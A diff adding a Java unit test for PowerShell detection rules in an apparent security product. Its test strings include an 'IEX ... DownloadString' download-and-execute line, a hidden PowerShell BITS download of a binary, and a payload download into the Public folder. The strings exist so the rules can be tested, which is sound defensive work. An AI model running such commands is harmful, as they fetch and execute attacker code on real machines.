@@ -108,4 +108,17 @@ class PowerShellRulesTest {
     org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("IEX (New-Object Net.WebClient).DownloadString("
         + "'http://10.20.30.40/s.ps1')"))).contains("shield-ps-exec-001");
   }
+
+  @Test
+  void hiddenDownloadIntoThePublicFolder() {
+    String moduleLog = "{\"Channel\":\"Microsoft-Windows-PowerShell/Operational\",\"EventID\":4103,\"SourceName\":"
+        + "\"Microsoft-Windows-PowerShell\",\"Hostname\":\"ws-17.example.org\",\"Payload\":\"CommandInvocation("
+        + "Start-BitsTransfer): \\\"Start-BitsTransfer\\\" ParameterBinding(Start-BitsTransfer): name=\\\"Source\\\"; "
+        + "value=\\\"https://files.example.net/p.bin\\\"\",\"HostApplication\":\"powershell.exe -nop -win hid -c x\"}";
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, moduleLog)).contains("shield-ps-c2-010");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Invoke-WebRequest http://192.0.2.80/t.zip -OutFile "
+        + "C:\\Users\\Public\\t.zip"))).contains("shield-ps-c2-010");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Invoke-WebRequest https://www.example.com/report.csv -OutFile "
+        + "C:\\Reports\\report.csv"))).doesNotContain("shield-ps-c2-010");
+  }
 }
